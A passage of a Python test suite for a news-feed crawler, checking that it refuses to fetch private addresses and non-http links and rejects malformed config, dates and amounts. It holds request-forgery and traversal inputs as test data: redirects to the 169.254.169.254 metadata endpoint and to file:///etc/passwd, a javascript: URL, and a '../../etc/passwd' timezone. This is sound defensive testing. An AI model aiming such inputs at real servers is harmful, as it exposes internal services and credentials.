    """``intranet.example.test`` resolves to 127.0.0.1, as an internal name would; nothing goes to a real DNS."""
    real = socket.getaddrinfo

    def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        name = host.decode("ascii", "replace") if isinstance(host, bytes) else str(host)
        if name.rstrip(".").lower() == "intranet.example.test":
            return real("127.0.0.1", port, *args, **kwargs)
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)


@pytest.mark.parametrize("kind", ["feed", "html"])
def test_links_to_private_addresses_and_odd_schemes_are_never_fetched(kind: str, httpserver: HTTPServer, store: Store,
                                                                      tmp_path: Path, fake_dns: None) -> None:
    links = PRIVATE_LINKS + loopback_links(httpserver.port) + odd_schemes(httpserver.port)
    if kind == "feed":
        items = "".join(f"<item><title>Entry {i}</title><link>{link.replace('&', '&amp;')}</link>"
                        f"<description>Feed text {i}.</description></item>" for i, link in enumerate(links))
        body = f'<?xml version="1.0"?><rss version="2.0"><channel><title>Sneaky</title>{items}</channel></rss>'
        httpserver.expect_request("/source").respond_with_data(body, content_type="application/rss+xml")
        source = source_toml("sneaky", httpserver.url_for("/source"), fetch_full_text=True)
    else:
        anchors = "".join(f'<a class="post" href="{link}">Entry {i}</a>' for i, link in enumerate(links))
        httpserver.expect_request("/source").respond_with_data(f"<html><body>{anchors}</body></html>", content_type="text/html")
        source = source_toml("sneaky", httpserver.url_for("/source"), kind="html", selectors={"link": "a.post"})
    catch_all(httpserver)
    # the default: no exception at all (the source itself is on loopback, which is fine: the operator configured it)
    config = make_config(tmp_path, source, allow_private_hosts=[])
    result = crawl_sources(config, store, force=True, now=CRAWL_NOW).by_name("sneaky")
    assert result.status == "ok", result.error
    assert requested(httpserver) == ["/source"]  # not one article fetch reached anything
    assert "not fetched" in (result.warning or "") and "private address" in (result.warning or "")
    rows = article_fields(store)
    assert all("SECRET" not in (r["text"] or "") for r in rows)
    base = httpserver.url_for("/source")
    distinct = {canonical_url(resolved) for link in links if (resolved := http_link(link, base))}  # one article per URL
    not_http = [link for link in links if http_link(link, base) is None]
    assert len(not_http) == 6
    if kind == "feed":
        assert len(rows) == len(distinct) + len(not_http)  # every entry is kept, with the feed's own text
        for r in rows:
            assert r["text"].startswith("Feed text")
            assert r["link"] is None or r["link"].startswith("http")
            if r["link"] is None:
                assert r["url"].startswith("urn:capwatch:entry:")
    else:
        assert len(rows) == len(distinct)  # links that are not http(s) are not articles at all
        assert all(r["text"] == "" for r in rows)


def test_allow_list_opens_only_what_it_names(httpserver: HTTPServer, store: Store, tmp_path: Path, fake_dns: None) -> None:
    port = httpserver.port
    links = [f"http://intranet.example.test:{port}/ok", f"http://localhost:{port}/secret", "http://10.0.0.1/x"]
    httpserver.expect_request("/source").respond_with_data(rss([(f"E{i}", link) for i, link in enumerate(links)]),
                                                          content_type="application/rss+xml")
    httpserver.expect_request("/ok").respond_with_data(
        "<html><body><article><p>" + "Helix AI opened a new office. " * 20 + "</p></article></body></html>",
        content_type="text/html")
    catch_all(httpserver)
    config = make_config(tmp_path, source_toml("opt-in", httpserver.url_for("/source"), fetch_full_text=True),
                         allow_private_hosts=["127.0.0.1"])
    result = crawl_sources(config, store, force=True, now=CRAWL_NOW).by_name("opt-in")
    # 127.0.0.1 is allowed: a name resolving to it is too; "localhost" is refused by name unless listed itself
    assert requested(httpserver) == ["/source", "/ok"], result.warning
    assert "2 of 3 articles not fetched" in (result.warning or "")


def test_a_source_redirecting_into_private_space_is_not_followed(httpserver: HTTPServer, store: Store,
                                                                  tmp_path: Path) -> None:
    port = httpserver.port
    # httpserver's own URLs say "localhost"; the redirects go to another name of the same machine
    httpserver.expect_request("/to-loopback").respond_with_data("", status=302,
                                                                headers={"Location": f"http://127.0.0.1:{port}/internal"})
    httpserver.expect_request("/to-metadata").respond_with_data(
        "", status=301, headers={"Location": "http://169.254.169.254/latest/meta-data/"})
    httpserver.expect_request("/to-file").respond_with_data("", status=302, headers={"Location": "file:///etc/passwd"})
    httpserver.expect_request("/same-host").respond_with_data("", status=302, headers={"Location": "/moved"})
    httpserver.expect_request("/moved").respond_with_data(rss([("Helix moved", "https://m.example.com/1")]),
                                                          content_type="application/rss+xml")
    catch_all(httpserver, "<rss version='2.0'><channel><item><title>INTERNAL</title></item></channel></rss>",
              "application/rss+xml")
    sources = (source_toml("to-loopback", httpserver.url_for("/to-loopback"))
               + source_toml("to-metadata", httpserver.url_for("/to-metadata"))
               + source_toml("to-file", httpserver.url_for("/to-file"))
               + source_toml("same-host", httpserver.url_for("/same-host")))
    config = make_config(tmp_path, sources, allow_private_hosts=[])
    report = crawl_sources(config, store, force=True, now=CRAWL_NOW)
    assert report.by_name("to-loopback").status == "error"
    assert (report.by_name("to-loopback").error or "").startswith("private address: 127.0.0.1")
    assert (report.by_name("to-metadata").error or "").startswith("private address: 169.254.169.254")
    assert (report.by_name("to-file").error or "").startswith("only http and https links are fetched")
    assert "/internal" not in requested(httpserver)
    state = store.source_state("to-metadata")
    assert state is not None and state["current_url"] == httpserver.url_for("/to-metadata")  # the 301 was not taken
    # a redirect within the configured host is the operator's own server: followed
    assert (report.by_name("same-host").status, report.by_name("same-host").new_articles) == ("ok", 1)
    assert "INTERNAL" not in database_text(store)

    # the opt-in: naming the host lets the redirect through
    config = make_config(tmp_path, source_toml("to-loopback", httpserver.url_for("/to-loopback")),
                         allow_private_hosts=["127.0.0.1"])
    assert crawl_sources(config, store, force=True, now=CRAWL_NOW).by_name("to-loopback").status == "ok"
    assert "/internal" in requested(httpserver)


def test_robots_txt_redirect_into_private_space_is_not_followed(httpserver: HTTPServer, store: Store,
                                                                 tmp_path: Path) -> None:
    httpserver.expect_request("/robots.txt").respond_with_data(
        "", status=302, headers={"Location": f"http://127.0.0.1:{httpserver.port}/robots-internal"})
    httpserver.expect_request("/news").respond_with_data('<html><body><a class="p" href="/a1">Helix</a></body></html>',
                                                         content_type="text/html")
    catch_all(httpserver, "User-agent: *\nAllow: /\n")
    config = make_config(tmp_path, source_toml("news", httpserver.url_for("/news"), kind="html", selectors={"link": "a.p"}),
                         allow_private_hosts=[], respect_robots=True)
    result = crawl_sources(config, store, force=True, now=CRAWL_NOW).by_name("news")
    assert "/robots-internal" not in requested(httpserver)
    # an unreadable robots.txt disallows everything (RFC 9309), and the reason says so rather than blaming the rules
    assert result.status == "error" and (result.error or "").startswith("robots.txt unreachable (")


# ================================================================================================ 5. config, dates, amounts
SRC = '[[sources]]\nname = "a"\nurl = "https://e.org/f"\n'


CONFIG_CASES: dict[str, tuple[str | bytes, str]] = {  # what the file says -> what the one line must say
    "negative-interval": (
        SRC + 'interval = "-5m"\n',
        'sources[0].interval: expected a duration like "30m", got "-5m"',
    ),
    "zero-interval": (
        SRC + 'interval = "0s"\n',
        "sources[0].interval: expected a duration",
    ),
    "integer-interval": (
        SRC + "interval = 30\n",
        "sources[0].interval: expected a duration",
    ),
    "huge-interval": (
        SRC + 'interval = "99999999999999999d"\n',
        'sources[0].interval: expected a duration like "30m"',
    ),
    "infinite-interval": (
        SRC + 'interval = "' + "9" * 400 + 's"\n',
        'sources[0].interval: expected a duration like "30m", got "999',
    ),
    "huge-backoff": (
        '[crawl]\nbackoff_base = "99999999999999w"\n',
        "crawl.backoff_base: expected a duration",
    ),
    "huge-max-pause": (
        '[crawl]\nmax_pause = "999999999999d"\n',
        "crawl.max_pause: expected a duration",
    ),
    "huge-story-window": (
        '[risk]\nstory_window = "99999999999999999w"\n',
        "risk.story_window: expected a duration",
    ),
    "negative-concurrency": (
        "[crawl]\nconcurrency = -1\n",
        "crawl.concurrency: expected an integer from 1 to 256, got -1",
    ),
    "nan-timeout": (
        "[crawl]\nconnect_timeout = nan\n",
        "crawl.connect_timeout: expected seconds (0.1 to 600), got nan",
    ),
    "inf-timeout": (
        "[crawl]\nread_timeout = inf\n",
        "crawl.read_timeout: expected seconds",
    ),
    "allow-list-not-a-list": (
        '[crawl]\nallow_private_hosts = "127.0.0.1"\n',
        "crawl.allow_private_hosts: expected a list",
    ),
    "unknown-key": (
        '[crawl]\nmax_redirect = 3\n',
        "crawl.max_redirect: unknown key",
    ),
    "url-with-space": (
        '[[sources]]\nname = "a"\nurl = "https://exa mple.org/f"\n',
        "sources[0].url: expected an http(s) URL",
    ),
    "url-unclosed-bracket": (
        '[[sources]]\nname = "a"\nurl = "http://[::1/feed"\n',
        "sources[0].url: expected an http(s) URL",
    ),
    "url-bad-port": (
        '[[sources]]\nname = "a"\nurl = "http://example.org:99999/feed"\n',
        "sources[0].url: expected an http(s) URL",
    ),
    "url-with-newline": (
        '[[sources]]\nname = "a"\nurl = "http://example.org/\\nfeed"\n',
        'sources[0].url: expected an http(s) URL, got "http://example.org/\\nfeed"',
    ),
    "url-javascript": (
        '[[sources]]\nname = "a"\nurl = "javascript:alert(1)"\n',
        "sources[0].url: expected an http(s) URL",
    ),
    "url-file": (
        '[[sources]]\nname = "a"\nurl = "file:///etc/passwd"\n',
        "sources[0].url: expected an http(s) URL",
    ),
    "url-not-a-string": (
        "[[sources]]\nname = \"a\"\nurl = 5\n",
        "sources[0].url: expected an http(s) URL, got 5",
    ),
    "sources-not-a-list": (
        'sources = "x"\n',
        "sources: expected an array of tables",
    ),
    "sources-not-tables": (
        "sources = [1, 2]\n",
        "sources[0]: expected a table, got 1",
    ),
    "routes-not-a-list": (
        "[notify.slack]\nroutes = 5\n",
        "notify.slack.routes: expected an array of tables",
    ),
    "routes-a-table": (
        '[notify.slack.routes]\nname = "x"\n',
        "notify.slack.routes: expected an array of tables",
    ),
    "provider-not-a-table": (
        '[providers]\nxai = "x"\n',
        "providers.xai: expected a table",
    ),
    "timezone-path": (
        '[settings]\ntimezone = "../../etc/passwd"\n',
        "settings.timezone: expected an IANA time zone",
    ),
    "digest-time-datetime": (
        "[settings]\ndigest_time = 1979-05-27T07:32:00Z\n",
        'settings.digest_time: expected a local time like "08:00", got 1979-05-27T07:32:00+00:00',
    ),
    "digest-time-out-of-range": (
        '[settings]\ndigest_time = "25:99"\n',
        "settings.digest_time: expected a local time",
    ),
    "nan-threshold": (
        "[risk.thresholds]\nwatch = nan\n",
        "risk.thresholds.watch: expected a number",
    ),
    "duplicate-key": (
        "[settings]\ntimezone = \"UTC\"\ntimezone = \"UTC\"\n",
        "invalid TOML: Cannot overwrite a value (at line 3",
    ),
    "toml-syntax": (
        "[settings\n",
        "invalid TOML",
    ),
    "nested-arrays": (
        "a = " + "[" * 5000 + "]" * 5000 + "\n",
        "invalid TOML: arrays or inline tables nested too deeply",
    ),
    "nested-inline-tables": (
        "a = " + "{b = " * 5000 + "1" + "}" * 5000 + "\n",
        "invalid TOML: arrays or inline tables nested too deeply",
    ),
    "nul-character": (
        '[settings]\ntimezone = "UTC\x00"\n',
        "invalid TOML: Illegal character",
    ),
    "not-utf8": (
        b'[settings]\ntimezone = "\xff\xfe"\n',
        "line 2, column 13: not UTF-8 text (byte 0xff)",
    ),
    "utf16": (
        "[settings]\n".encode("utf-16"),
        "line 1, column 1: not UTF-8 text (byte 0xff)",
    ),
}

@pytest.mark.parametrize(("text", "expected"), [pytest.param(*case, id=name) for name, case in CONFIG_CASES.items()])
def test_malformed_config_is_one_clear_line_with_exit_code_2(text: str | bytes, expected: str, tmp_path: Path) -> None:
    path = tmp_path / "sources.toml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    result = invoke(path, tmp_path / "x.db", "sources")
    assert result.exit_code == 2, (result.output, result.exception)
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1, result.output
    assert lines[0].startswith("Error: ") and "sources.toml" in lines[0], lines[0]
    assert expected in lines[0], lines[0]
    assert "Traceback" not in result.output


@pytest.mark.parametrize("text", [b"", b"# only a comment\n", b"\xef\xbb\xbf[settings]\n"])
def test_empty_config_is_valid_and_says_so(text: bytes, tmp_path: Path) -> None:
    """Every key is optional: an empty file (or one saved with a byte-order mark) has no sources, which is said."""
    path = tmp_path / "sources.toml"
    path.write_bytes(text)
    Store(tmp_path / "x.db").close()  # `sources` reads an existing database (a missing one is an error)
    result = invoke(path, tmp_path / "x.db", "sources")
    assert (result.exit_code, result.output.strip()) == (0, "No sources configured.")


@pytest.mark.parametrize(("since", "code"), [("99999999999999999d", 2), ("9" * 400 + "s", 2), ("9999999d", 0)])
def test_absurd_durations_on_the_command_line(since: str, code: int, tmp_path: Path,
                                              write_config: Callable[..., Path]) -> None:
    """Too long to be a duration: a usage error; a duration reaching before year 1: "since the beginning"."""
    Store(tmp_path / "x.db").close()  # `search` reads an existing database (a missing one is an error)
    result = invoke(write_config(""), tmp_path / "x.db", "search", "helix", "--since", since)
    assert result.exit_code == code, (result.output, result.exception)
    assert "Traceback" not in result.output and not isinstance(result.exception, OverflowError)


GARBAGE_DATES = [
    "yesterday", "Mon, 02 Mar 99999 10:00:00 GMT", "99999-03-02T10:00:00Z", "Mon, 02 Mar 1900 10:00:00 GMT",
    "1900-03-02T10:00:00Z", "Sat, 02 Mar 2999 10:00:00 GMT", "2999-03-02T10:00:00Z", "0000-00-00T00:00:00Z",
    "99999999999999999999", "-1", "", "1970-01-01T00:00:00Z", "Sun, 15 Mar 2026 10:00:00 GMT",
]
ODD_BUT_DATED = ["Mon, 02 Mar 2026 10:00:00 +9999", "Mon, 02 Mar 2026 10:00:00 XYZ", "2026-03-02T10:00:00+99:99",
                 "2026-02-30T10:00:00Z", "2026-03-02T25:61:00Z", "Tue, 03 Mar 2026 10:00:00 PST"]


def assert_sane_date(row: dict[str, Any], fetched: datetime) -> None:
    published = from_iso(row["published"])
    assert EARLIEST <= published <= fetched + FUTURE_TOLERANCE, row
    if row["date_missing"]:
        assert published == fetched, row


def test_malformed_dates_fall_back_to_the_fetch_time(httpserver: HTTPServer, store: Store, tmp_path: Path) -> None:
    dates = GARBAGE_DATES + ODD_BUT_DATED
    rss_items = "".join(f"<item><title>rss {i}</title><link>https://d.example.com/r{i}</link><pubDate>{d}</pubDate></item>"
                        for i, d in enumerate(dates))
    atom_entries = "".join(f"<entry><id>urn:d:{i}</id><title>atom {i}</title><link href=\"https://d.example.com/a{i}\"/>"
                           f"<published>{d}</published><updated>{d}</updated></entry>" for i, d in enumerate(dates))
    json_items = [{"id": str(i), "url": f"https://d.example.com/j{i}", "title": f"json {i}", "content_text": "x",
                   "date_published": d} for i, d in enumerate(dates)]
    listing = "".join(f'<div class="row"><a href="/l{i}">listing {i}</a><time datetime="{d}">{d}</time></div>'
                      for i, d in enumerate(dates))
    status = ('<?xml version="1.0"?><rss version="2.0"><channel><title>Status</title><description>Statuspage</description>'
              "<item><title>Outage from the future</title><link>https://status.example.com/incidents/1</link>"
              "<pubDate>Sat, 02 Mar 2999 10:00:00 GMT</pubDate><description>&lt;p&gt;&lt;small&gt;Mar 2, 2999 10:00 UTC"
              "&lt;/small&gt;&lt;br&gt;&lt;strong&gt;Resolved&lt;/strong&gt; - Fixed.&lt;/p&gt;&lt;p&gt;&lt;small&gt;Mar 1, 1899"
              " 10:00 UTC&lt;/small&gt;&lt;br&gt;&lt;strong&gt;Investigating&lt;/strong&gt; - Looking.&lt;/p&gt;</description>"
              "</item></channel></rss>")
    serve = {
        "/rss": (f'<?xml version="1.0"?><rss version="2.0"><channel><title>D</title>{rss_items}</channel></rss>', "application/rss+xml"),
        "/atom": (f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>D</title><id>urn:d</id>{atom_entries}</feed>',
                  "application/atom+xml"),
        "/json": (json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "D", "items": json_items}), "application/feed+json"),
        "/listing": (f"<html><body>{listing}</body></html>", "text/html"),
        "/status": (status, "application/rss+xml"),
    }
    for path, (body, ctype) in serve.items():
        httpserver.expect_request(path).respond_with_data(body, content_type=ctype)
    config = make_config(tmp_path, source_toml("rss", httpserver.url_for("/rss")) + source_toml("atom", httpserver.url_for("/atom"))
                         + source_toml("json", httpserver.url_for("/json"))
                         + source_toml("listing", httpserver.url_for("/listing"), kind="html",
                                       selectors={"row": "div.row", "link": "a", "date": "time"})
                         + source_toml("status", httpserver.url_for("/status"), kind="status", format="statuspage",
                                       providers=["helix"]))
    report = crawl_sources(config, store, force=True, now=CRAWL_NOW)
    assert [r.status for r in report.results] == ["ok"] * 5, [(r.name, r.error) for r in report.results]
    rows = article_fields(store)
    assert len(rows) == 4 * len(dates)
    for row in rows:
        assert_sane_date(row, CRAWL_NOW)
    by_title = {r["title"]: r for r in rows}
    for kind in ("rss", "atom", "json", "listing"):
        for i, _ in enumerate(GARBAGE_DATES):
            row = by_title[f"{kind} {i}"]
            assert row["date_missing"] == 1 and from_iso(row["published"]) == CRAWL_NOW, (kind, GARBAGE_DATES[i], row)
    (incident,) = store.rows("select started, resolved, updated from incidents")
    for field in ("started", "resolved", "updated"):
        assert EARLIEST <= from_iso(incident[field]) <= CRAWL_NOW + FUTURE_TOLERANCE, incident


ABSURD_AMOUNTS = [
    "$999999999999 trillion", "$1e308", "$1E308 billion", "€-5 billion", "$-5 million", "$NaN million", "$inf",
    "$Infinity billion", "$" + "9" * 10_000, "$" + "1" * 10_000 + " trillion", "€" + "0" * 9_999 + "5 million",
    "$000000000000000001234567", "$1,000,000,000,000,000,000,000", "$1.12345678 billion", "$5.5.5 million",
    "9" * 10_000 + " dollars", "1e308 dollars", "$" + "9" * 18 + " trillion", "¥" + "9" * 18 + " trillion",
    "$ " * 20_000, "billion " * 10_000 + "$", "$-" * 20_000 + "5",
]


@pytest.mark.parametrize("text", ABSURD_AMOUNTS, ids=lambda t: t[:30])
def test_absurd_amounts_give_no_amount(text: str) -> None:
    assert extract_amounts(text) == [] and extract_article_amounts(text, text) == []


def test_long_runs_of_symbols_and_digits_are_read_quickly_and_sanely() -> None:
    assert [a.value_usd for a in extract_amounts("$1" * 20_000)] == [1.0]  # "$1$1...": one dollar, then glued digits
    assert extract_amounts("Helix raised $" + "1," * 50_000 + " in cash") == []


AMOUNT_ALPHABET = st.sampled_from(["$", "€", "£", "¥", "US$", "USD", "EUR", " ", ",", ".", "-", "e", "E", "+", "to",
                                   " billion", " million", " trillion", "bn", "M", "k", "B", " per 1M tokens",
                                   " dollars", " euros", "raised", "loss", "NaN", "inf", "\n"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(parts=st.lists(st.one_of(AMOUNT_ALPHABET, st.text(alphabet="0123456789", min_size=1, max_size=40)), max_size=40))
def test_amount_extraction_never_raises_and_stays_plausible(parts: list[str]) -> None:
    text = "".join(parts)
    for amount in extract_amounts(text):
        assert math.isfinite(amount.value_usd) and 0 < amount.value_usd <= MAX_PLAUSIBLE_USD
        assert amount.currency in USD_PER_UNIT and amount.text and amount.text in text


def test_an_absurd_stored_amount_breaks_no_command(tmp_path: Path, write_config: Callable[..., Path]) -> None:
    """Amounts the classifier would never produce (1e300, infinity) written straight into the database: `classify`,
    `show`, `risk` and the digest still work."""
    config = write_config("")
    db = tmp_path / "absurd.db"
    now = utcnow()
    with Store(db) as store:
        article_id, _ = store.add_article(NewArticle(
            url="https://absurd.example.com/1", title="Helix AI raises $999999999999 trillion and $1e308",
            summary="Helix AI raised $" + "9" * 500 + " in funding", text="Helix AI raised €-5 billion. $NaN million.",
            published=now - timedelta(hours=2), fetched=now - timedelta(hours=2), source="absurd"))
        store.add_signals([NewSignal(tag=tag, confidence=0.9, published=now - timedelta(hours=2), model_version="test",
                                     provider="helix", amount_usd=amount, amount_kind="raise", article_id=article_id,
                                     direction="in")
                           for tag, amount in (("funding_raise", 1e300), ("losses_burn", float("inf")))])
        assign_stories(store, load_config(config).risk, load_config(config).provider_aliases, no_embedding)
    classified = invoke(config, db, "classify", "--all")
    assert classified.exit_code == 0, classified.output
    with Store(db) as store:
        amounts = [r["amount_usd"] for r in store.rows("select amount_usd from signals where model_version != 'test'")]
    assert all(a is None or (math.isfinite(a) and a <= MAX_PLAUSIBLE_USD) for a in amounts), amounts
    for args in (("show", str(article_id)), ("show", str(article_id), "--json"), ("risk",), ("risk", "--json"),
                 ("risk", "helix"), ("digest",)):
        result = invoke(config, db, *args)
        assert result.exit_code == 0, (args, result.output, result.exception)
        assert "Traceback" not in result.output
